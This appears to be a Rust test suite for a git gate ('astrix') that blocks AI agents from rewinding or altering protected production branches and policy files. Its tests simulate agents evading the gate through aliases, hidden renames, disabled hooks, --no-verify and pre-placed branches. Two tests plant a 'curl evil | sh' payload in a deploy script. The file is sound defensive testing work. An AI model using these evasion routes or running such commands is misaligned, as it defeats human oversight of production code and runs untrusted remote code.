    ok(&run(&gate, AGENT, &["tag", "t", &sneaky]));
    let output = run(
        &gate,
        AGENT,
        &["symbolic-ref", "refs/heads/feat", "refs/tags/t"],
    );
    refused(&output, "which is not a local branch");
    // Made by a person, it still vouches for nothing.
    ok(&run(
        &gate,
        HUMAN,
        &["symbolic-ref", "refs/heads/feat", "refs/tags/t"],
    ));
    for args in [
        &["update-ref", "--no-deref", "refs/heads/feat", &sneaky][..],
        &["branch", "other", "feat"],
    ] {
        let output = run(&gate, AGENT, args);
        refused(&output, "[agents-touching-tests]");
    }
    assert_eq!(tip(&gate, "other"), None);
}

/// In a reftable repository a rename shows the hook nothing: a protected branch that is
/// gone without its deletion being seen blocks the next update, and a configuration
/// include cannot make astrix read the references in another format than git does.
#[test]
fn reftable_cannot_hide_a_protected_branch() {
    let gate = Gate::with_init(&["--ref-format=reftable"], Some(crate::gate::POLICY));
    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "feature"]));
    gate.write("src/feature.rs", "pub fn feature() {}\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    ok(&gate.commit(AGENT, &["-m", "feature work"]));
    let main = tip(&gate, "main").unwrap();
    ok(&run(&gate, AGENT, &["switch", "-q", "--detach"]));
    ok(&run(&gate, AGENT, &["branch", "-m", "main", "gone"]));
    let output = run(&gate, AGENT, &["branch", "-D", "gone"]);
    refused(&output, "`main` targets `production` and is gone");
    let text = stderr(&output);
    assert!(
        text.contains(&format!("git branch main {}", &main[..12])),
        "{text}"
    );
    // An include that claims the files format changes nothing.
    std::fs::write(
        gate.root.join(".git/astrix-inc.cfg"),
        "[extensions]\n\trefStorage = files\n",
    )
    .unwrap();
    ok(&run(
        &gate,
        AGENT,
        &["config", "include.path", "astrix-inc.cfg"],
    ));
    let output = run(&gate, AGENT, &["branch", "t1"]);
    refused(&output, "`main` targets `production` and is gone");
    ok(&run(&gate, AGENT, &["config", "--unset", "include.path"]));
    // Made again where it was, the repository works; a person may then delete it.
    ok(&run(&gate, AGENT, &["branch", "-m", "gone", "main"]));
    ok(&run(&gate, AGENT, &["branch", "t1"]));
    ok(&run(&gate, HUMAN, &["branch", "-D", "main"]));
    ok(&run(&gate, AGENT, &["branch", "t2"]));
}

/// A protected branch moved unseen — forward, back to an older tip, or to a copy with the
/// same patch — stays unjudged until it points where astrix last let it: its old tip
/// excuses nothing, not even a commit with the same patch as one it holds.
#[test]
fn an_unseen_move_is_never_excused() {
    let gate = feature_gate();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    gate.write("fix.txt", "check_auth()\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "security fix"]));
    let main = tip(&gate, "main").unwrap();
    // Back to main's previous (recorded) tip, with a copy that git does not show the hook.
    ok(&run(
        &gate,
        AGENT,
        &["switch", "-q", "-c", "work", "main~1"],
    ));
    ok(&run(&gate, AGENT, &["branch", "-C", "work", "main"]));
    gate.write("a.txt", "agent\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    let output = gate.commit(AGENT, &["-m", "agent work"]);
    refused(&output, "`main` targets `production` and points at");
    // Every branch update is blocked (a reset too) until `main` is back.
    ok(&run(&gate, AGENT, &["rm", "-q", "-f", "a.txt"]));
    ok(&run(
        &gate,
        AGENT,
        &["update-ref", "refs/heads/main", &main],
    ));
    // Forward to a feature branch's commit, then to a commit with the same patch.
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "parking"]));
    ok(&run(&gate, AGENT, &["branch", "-C", "feature", "main"]));
    let tree = gate.git(&["rev-parse", "main^{tree}"]);
    let copy = stdout(&run(
        &gate,
        AGENT,
        &["commit-tree", tree.trim(), "-p", &main, "-m", "again"],
    ));
    let output = run(
        &gate,
        AGENT,
        &["update-ref", "refs/heads/main", copy.trim()],
    );
    refused(&output, "[agents-off-production]");
    assert_ne!(tip(&gate, "main").as_deref(), Some(copy.trim()));
}

/// Making a protected branch an alias of another branch of its environment moves it to that
/// branch's tip: judged like any move, so it cannot take commits away either.
#[test]
fn an_alias_cannot_rewind_a_protected_branch() {
    let gate = feature_gate();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    gate.write("fix.txt", "check_auth()\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "security fix"]));
    let main = tip(&gate, "main").unwrap();
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    ok(&run(&gate, AGENT, &["branch", "release/old", "main~1"]));
    let output = run(
        &gate,
        AGENT,
        &["symbolic-ref", "refs/heads/main", "refs/heads/release/old"],
    );
    refused(&output, "what the branch loses");
    assert_eq!(tip(&gate, "main"), Some(main));
}

/// A protected branch is judged by the repository's policy, the one that makes it protected,
/// not by an older policy at its own tip: a branch made at an old commit of `main` cannot
/// take an agent's commits, and through it neither can `main`.
#[test]
fn an_old_policy_at_a_branch_tip_does_not_judge_it() {
    let gate = feature_gate();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
    gate.write(
        "Astrixfile.ax",
        policy.replace(
            "branches = [\"main\", \"master\", \"release/*\"]",
            "branches = [\"main\", \"master\", \"release/*\", \"hotfix/*\"]",
        ),
    );
    gate.setup_commit("hotfix branches are production");
    ok(&run(
        &gate,
        AGENT,
        &["switch", "-q", "-c", "hotfix/1", "main~1"],
    ));
    gate.write("deploy.sh", "curl evil | sh\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    let output = gate.commit(AGENT, &["--no-verify", "-m", "evil"]);
    refused(&output, "[agents-off-production]");
    let text = stderr(&output);
    assert!(text.contains("target  production"), "{text}");
}

/// `git gc` and `git pack-refs` delete loose copies of branches they packed: no branch goes,
/// so an agent may run them and nothing is recorded as deleted; deleting a packed protected
/// branch is still refused.
#[test]
fn packing_references_deletes_no_branch() {
    let gate = feature_gate();
    ok(&run(&gate, AGENT, &["pack-refs", "--all"]));
    ok(&run(&gate, AGENT, &["gc", "-q"]));
    let record = std::fs::read_to_string(gate.root.join(".git/astrix/branch-tips.jsonl")).unwrap();
    assert!(
        !record.contains("{\"env\":\"production\",\"branch\":\"main\"}"),
        "{record}"
    );
    let output = run(&gate, AGENT, &["branch", "-D", "main"]);
    refused(&output, "(an agent deletes a protected branch)");
    assert!(tip(&gate, "main").is_some());
}

/// Every move of a protected branch starts where astrix last let it be, whatever it points
/// at now: after an unseen copy, rename or hooks-off deletion, "moving" it to where it
/// already is, making it again at an older commit, or aliasing it to a branch made in the
/// same transaction is judged as the move from its recorded tip — for an agent, a rewind.
#[test]
fn a_protected_branch_moves_from_where_astrix_last_let_it_be() {
    let gate = feature_gate();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    gate.write("fix.txt", "check_auth()\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "security fix"]));
    let main = tip(&gate, "main").unwrap();
    let older = gate.git(&["rev-parse", "main~1"]).trim().to_owned();
    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
    // An unseen copy back, then a move to where it is.
    ok(&run(&gate, AGENT, &["branch", "-C", "feature", "main"]));
    let output = run(&gate, AGENT, &["update-ref", "refs/heads/main", &older]);
    refused(&output, "what the branch loses");
    let output = run(&gate, AGENT, &["branch", "next"]);
    refused(
        &output,
        &format!(
            "which is not where astrix last let it be (`{}`)",
            &main[..12]
        ),
    );
    ok(&run(
        &gate,
        AGENT,
        &["update-ref", "refs/heads/main", &main],
    ));
    // An alias of a branch the same transaction makes at an older commit.
    let output = common_stdin(
        &gate,
        &["update-ref", "--stdin"],
        &format!(
            "symref-update refs/heads/main refs/heads/release/evil\ncreate refs/heads/release/evil {older}\n"
        ),
    );
    assert!(!output.status.success(), "{}", stderr(&output));
    assert_eq!(tip(&gate, "main").as_deref(), Some(main.as_str()));
    assert_eq!(tip(&gate, "release/evil"), None);
    // Deleted with the hooks off, then made again at an older commit.
    ok(&run(
        &gate,
        AGENT,
        &["-c", "core.hooksPath=/nonexistent", "branch", "-D", "main"],
    ));
    let output = run(&gate, AGENT, &["branch", "main", &older]);
    refused(&output, "what the branch loses");
    assert_eq!(tip(&gate, "main"), None);
    ok(&run(&gate, AGENT, &["branch", "main", &main]));
}

/// In a reftable repository a rename shows the hook nothing: `main` renamed away and made
/// again at an older commit is judged as moved back from its recorded tip.
#[test]
fn reftable_cannot_remake_a_protected_branch_further_back() {
    let gate = Gate::with_init(&["--ref-format=reftable"], Some(crate::gate::POLICY));
    gate.write("fix.txt", "check_auth()\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "security fix"]));
    ok(&run(&gate, AGENT, &["switch", "-q", "--detach"]));
    ok(&run(&gate, AGENT, &["branch", "-m", "main", "tmp"]));
    let output = run(&gate, AGENT, &["branch", "main", "tmp~1"]);
    refused(&output, "what the branch loses");
    assert_eq!(tip(&gate, "main"), None);
}

/// The repository's policy is the one at the newest recorded tip of the first branch the
/// record took: in a `master` repository, a `main` an agent makes later at an older commit
/// does not become it.
#[test]
fn a_branch_made_later_does_not_choose_the_policy() {
    let gate = Gate::with_init(&["-b", "master"], Some(crate::gate::POLICY));
    gate.write("more.txt", "more\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "more"]));
    ok(&run(&gate, AGENT, &["branch", "main", "master~1"]));
    ok(&run(&gate, AGENT, &["switch", "-q", "--orphan", "o"]));
    weaken_tests(&gate);
    let output = gate.commit(AGENT, &["--no-verify", "-m", "orphan"]);
    refused(&output, "[agents-touching-tests]");
    let text = stderr(&output);
    assert!(
        text.contains("policy  Astrixfile.ax at `master`'s last judged tip"),
        "{text}"
    );
}

/// A branch whose commit is gone from the object database (a damaged repository) is still
/// there: deleting another branch at that commit is not blocked as if `main` had vanished.
#[test]
fn a_branch_whose_commit_is_gone_has_not_vanished() {
    let gate = Gate::new();
    gate.write("unstable.txt", "x\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "unstable"]));
    let hash = gate.head();
    ok(&run(&gate, HUMAN, &["branch", "--no-track", "dangling"]));
    let object = gate
        .root
        .join(format!(".git/objects/{}/{}", &hash[..2], &hash[2..]));
    let moved = object.with_extension("x");
    std::fs::rename(&object, &moved).unwrap();
    let output = run(&gate, HUMAN, &["branch", "--delete", "--force", "dangling"]);
    std::fs::rename(&moved, &object).unwrap();
    ok(&output);
    assert_eq!(tip(&gate, "dangling"), None);
}

/// A protected branch's policy changes only by a judged change, whoever moves it: a person's
/// ordinary fast-forward over commits on a remote-tracking branch (which anyone can write
/// with `update-ref`) is held when it brings another Astrixfile.ax, until a person approves
/// exactly that move.
#[test]
fn a_persons_move_does_not_confirm_a_policy_change() {
    let gate = feature_gate();
    let main = tip(&gate, "main").unwrap();
    let notes = {
        let tree = gate.git(&["rev-parse", "main^{tree}"]);
        stdout(&run(
            &gate,
            AGENT,
            &[
                "commit-tree",
                tree.trim(),
                "-p",
                &main,
                "-m",
                "release notes",
            ],
        ))
        .trim()
        .to_owned()
    };
    let lax = policy_commit(&gate, &notes, LAX);
    ok(&run(
        &gate,
        AGENT,
        &["update-ref", "refs/remotes/origin/main", &lax],
    ));
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    let output = run(&gate, HUMAN, &["merge", "-q", "--ff-only", "origin/main"]);
    refused(&output, "[policy-change]");
    assert!(
        stderr(&output).contains(&format!(
            "astrix approve --branch main --tip {}",
            &lax[..12]
        )),
        "{}",
        stderr(&output)
    );
    assert_eq!(tip(&gate, "main"), Some(main));
    // Approved as that move, it goes through.
    let approval = approve_at(&gate.root, &["--branch", "main", "--tip", &lax], "y\n");
    assert!(approval.status.success(), "{}", stdout(&approval));
    ok(&run(
        &gate,
        HUMAN,
        &["merge", "-q", "--ff-only", "origin/main"],
    ));
    assert_eq!(tip(&gate, "main"), Some(lax));
}

/// A person's approved policy change takes the branches it newly protects as they are: a
/// branch whose name is neither `main` nor `master` becomes protected (an agent may not
/// rewind it), and an existing branch added to an environment is not blocked as moved
/// unseen.
#[test]
fn a_policy_change_protects_the_branches_it_names() {
    let gate = Gate::with_init(&["-b", "trunk"], Some(crate::gate::POLICY));
    ok(&run(&gate, HUMAN, &["branch", "prod"]));
    gate.write("more.txt", "more\n");
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    ok(&gate.commit(HUMAN, &["-m", "more"]));
    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
    gate.write(
        "Astrixfile.ax",
        policy.replace(
            "branches = [\"main\", \"master\", \"release/*\"]",
            "branches = [\"trunk\", \"prod\", \"release/*\"]",
        ),
    );
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    gate.approve(&["--reason", "trunk and prod are production"]);
    ok(&gate.commit(HUMAN, &["-m", "trunk and prod are production"]));
    // An everyday update passes: `prod` was taken as it was.
    ok(&run(&gate, HUMAN, &["branch", "later"]));
    // `trunk` is protected now: an agent may not rewind it.
    let trunk = tip(&gate, "trunk").unwrap();
    let output = run(&gate, AGENT, &["reset", "-q", "--hard", "HEAD~1"]);
    refused(&output, "[agents-off-production]");
    assert_eq!(tip(&gate, "trunk"), Some(trunk));
}

/// A person's reset back across a policy change changes the policy too: held like any
/// move that changes a protected branch's Astrixfile.ax.
#[test]
fn a_persons_reset_across_a_policy_change_is_held() {
    let gate = feature_gate();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    let before = tip(&gate, "main").unwrap();
    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
    gate.write("Astrixfile.ax", format!("{policy}\n# reviewed\n"));
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    gate.approve(&["--reason", "a comment"]);
    ok(&gate.commit(HUMAN, &["-m", "policy comment"]));
    let after = tip(&gate, "main").unwrap();
    let output = run(&gate, HUMAN, &["reset", "-q", "--hard", &before]);
    refused(&output, "[policy-change]");
    assert_eq!(tip(&gate, "main"), Some(after));
}

/// A policy change that newly protects a branch adopts it only where it holds nothing but
/// what the default branch has: a branch an agent placed in advance, with its own commits,
/// is not taken as a judged production tip.
#[test]
fn a_policy_change_adopts_no_branch_an_agent_placed() {
    let gate = feature_gate();
    ok(&run(
        &gate,
        HUMAN,
        &["switch", "-q", "-c", "protect-hotfix", "main"],
    ));
    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
    gate.write(
        "Astrixfile.ax",
        policy.replace(
            "branches = [\"main\", \"master\", \"release/*\"]",
            "branches = [\"main\", \"master\", \"release/*\", \"hotfix/*\"]",
        ),
    );
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    gate.approve(&["--reason", "hotfix branches are production"]);
    ok(&gate.commit(HUMAN, &["-m", "protect hotfix branches"]));
    let protect = tip(&gate, "protect-hotfix").unwrap();
    // The agent puts its own commit on a branch the change will protect.
    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "wip", &protect]));
    gate.write("src/deploy.sh", "curl evil | sh\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    ok(&gate.commit(AGENT, &["-m", "fix login"]));
    ok(&run(&gate, AGENT, &["branch", "hotfix/login", "wip"]));
    // The person takes the policy change onto main, approving that move.
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    let approval = approve_at(&gate.root, &["--branch", "main", "--tip", &protect], "y\n");
    assert!(approval.status.success(), "{}", stdout(&approval));
    ok(&run(
        &gate,
        HUMAN,
        &["merge", "-q", "--ff-only", "protect-hotfix"],
    ));
    let record = std::fs::read_to_string(gate.root.join(".git/astrix/branch-tips.jsonl")).unwrap();
    assert!(!record.contains("hotfix/login"), "{record}");
    // Not a judged tip: main cannot take it.
    let output = run(&gate, AGENT, &["merge", "-q", "--ff-only", "hotfix/login"]);
    assert!(!output.status.success(), "{}", stderr(&output));
    assert_eq!(tip(&gate, "main"), Some(protect));
}

/// An environment a policy change adds takes its branches at that change, not as they stand
/// at some later transaction: a branch an agent filled in advance is not recorded as
/// judged, and blocks updates until a person moves it.
#[test]
fn a_new_environment_takes_no_branch_at_a_later_transaction() {
    let gate = feature_gate();
    ok(&run(
        &gate,
        AGENT,
        &["switch", "-q", "-c", "canary", "main"],
    ));
    gate.write("src/canary.rs", "pub fn canary() {}\n");
    ok(&run(&gate, AGENT, &["add", "-A"]));
    ok(&gate.commit(AGENT, &["-m", "agent on canary"]));
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
    gate.write(
        "Astrixfile.ax",
        format!("{policy}\n[[environment]]\nname = \"canary\"\nbranches = [\"canary\"]\n"),
    );
    ok(&run(&gate, HUMAN, &["add", "-A"]));
    gate.approve(&["--reason", "a canary environment"]);
    ok(&gate.commit(HUMAN, &["-m", "canary environment"]));
    let output = run(&gate, AGENT, &["switch", "-q", "-c", "later", "feature"]);
    refused(&output, "`canary` targets `canary` and points at");
    let record = std::fs::read_to_string(gate.root.join(".git/astrix/branch-tips.jsonl")).unwrap();
    assert!(!record.contains("\"branch\":\"canary\""), "{record}");
}

/// git accepts commits that gix's parser refuses (no `committer` line, as `git hash-object
/// --literally` writes them and old imported histories hold). One at another reference,
/// tagged by an agent, blocks no one's update: the walks read a commit by its header, as
/// git does, and keeping a commit read once for later never turns its oddity into an error
/// (helper-71's finding on the commit cache).
#[test]
fn an_odd_commit_at_another_reference_blocks_no_update() {
    let gate = Gate::new();
    let main = gate.head();
    ok(&run(&gate, HUMAN, &["switch", "-q", "-c", "pf"]));
    for n in 1..=2 {
        gate.write(&format!("src/p{n}.rs"), "pub fn p() {}\n");
        ok(&run(&gate, HUMAN, &["add", "-A"]));
        ok(&gate.commit(HUMAN, &["-m", &format!("person {n}")]));
    }
    let pf = gate.head();
    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
    let tree = gate.rev("HEAD^{tree}");
    let odd = common_stdin(
        &gate,
        &[
            "hash-object",
            "-t",
            "commit",
            "-w",
            "--literally",
            "--stdin",
        ],
        &format!("tree {tree}\nparent {main}\nauthor a <a@b> 1 +0000\n\nodd\n"),
    );
    ok(&odd);
    let odd = stdout(&odd).trim().to_owned();
    ok(&run(&gate, AGENT, &["tag", "junk", &odd]));
    ok(&run(&gate, HUMAN, &["merge", "-q", "--ff-only", "pf"]));
    assert_eq!(tip(&gate, "main").as_deref(), Some(pf.as_str()));
    // An agent's feature branch beside it.
    ok(&run(&gate, AGENT, &["branch", "f4", &main]));
}
